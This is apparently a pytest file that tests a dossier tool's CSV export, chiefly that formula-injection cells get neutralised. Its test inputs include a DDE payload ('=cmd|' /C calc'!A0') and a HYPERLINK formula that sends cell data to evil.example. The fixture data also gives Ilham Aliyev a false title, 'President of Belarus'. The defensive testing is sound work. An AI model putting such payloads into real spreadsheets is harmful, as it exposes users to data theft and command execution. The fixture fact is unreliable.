"""CSV export of a tab: labels, words for choices, formulas neutralised."""

from __future__ import annotations

import csv
import io

import pytest

from dossier.cli import main
from dossier.exports.csv_tab import neutralise, tab_csv, tab_spec
from dossier.model import OFFICIAL


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+7 495", "'+7 495"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("Алиев", "Алиев"),
    ],
)
def test_formula_cells_are_neutralised(text, safe):
    assert neutralise(text) == safe


def test_officials_tab(sample_store):
    dossier = sample_store.dossiers.list()[0]
    sample_store.officials.add(
        OFFICIAL.make(
            {"name": "=cmd|' /C calc'!A0", "side": "host", "status": "current"},
            dossier_id=dossier.id,
        )
    )
    rows = list(
        csv.reader(io.StringIO(tab_csv(sample_store, dossier, tab_spec("officials"), "ru")))
    )
    assert rows[0][:2] == ["Имя", "Латиницей"]
    names = [r[0] for r in rows[1:]]
    assert "'=cmd|' /C calc'!A0" in names
    aliyev = next(r for r in rows if r[0] == "Ильхам Алиев")
    assert "Действующий" in aliyev
    assert aliyev[-1].startswith("Президент Белоруссии")  # the source's title, not an id


def test_trade_numbers_read_back_in_any_locale(sample_store):
    dossier = sample_store.dossiers.list()[0]
    rows = list(csv.DictReader(io.StringIO(tab_csv(sample_store, dossier, tab_spec("trade")))))
    assert rows[0]["Amount"] == "223.3"
    assert rows[0]["Flow"] == "Turnover"


def test_cli_export_csv(store_file, tmp_path, capsys):
    out = tmp_path / "projects.csv"
    assert (
        main(["--store", str(store_file), "export-csv", "AZ", "projects", "--out", str(out)]) == 0
    )
    assert out.read_bytes().startswith(b"\xef\xbb\xbfProject,")
    assert main(["--store", str(store_file), "export-csv", "AZ", "nonsense"]) == 1
    assert "No tab" in capsys.readouterr().err


@pytest.mark.parametrize("tab", ["officials", "trade", "projects", "talking_points", "sources"])
def test_no_cell_in_any_column_starts_a_formula(sample_store, tab):
    """A crafted source title or official's name reaches the file as text in every column
    that shows it (the "Source" and "For" columns write titles, not ids)."""
    from dossier.model import DOSSIER_PARTS, TRADE

    dossier = sample_store.dossiers.list()[0]
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    for spec in DOSSIER_PARTS:
        if spec is TRADE:
            continue
        for field in spec.fields:
            if field.kind.name in ("TEXT", "LONGTEXT"):
                sample_store.db.execute(
                    f'UPDATE "{spec.table}" SET "{field.name}" = ? WHERE "{field.name}" IS NOT NULL',
                    ["+cmd"],
                )
    sample_store.db.execute("UPDATE sources SET title = ?", [hostile])
    sample_store.db.execute("UPDATE officials SET name = ?", ["@SUM(1+1)*cmd|' /C calc'!A0"])
    rows = list(csv.reader(io.StringIO(tab_csv(sample_store, dossier, tab_spec(tab)))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells
    numbers = {"+", "-"}  # a number cell may be negative; it is still a number
    for cell in cells:
        if cell[:1] in numbers:
            float(cell)  # raises if it is anything but a plain number
        else:
            assert not cell.startswith(("=", "@", "\t", "\r")), cell
    if tab != "sources":
        assert any(c.startswith("'=HYPERLINK") for c in cells)
